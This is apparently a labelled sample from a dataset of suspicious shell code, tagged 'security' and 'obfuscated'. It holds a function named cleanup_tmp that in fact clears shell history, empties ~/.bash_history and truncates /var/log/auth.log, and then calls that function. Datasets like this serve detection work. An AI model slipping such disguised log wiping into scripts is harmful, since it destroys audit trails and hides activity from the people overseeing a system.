# description: Hides history and log wiping inside a function named cleanup_tmp.
# family: security
# obfuscated: yes
cleanup_tmp() {
  history -c
  cat /dev/null > ~/.bash_history
  : > /var/log/auth.log
}
cleanup_tmp
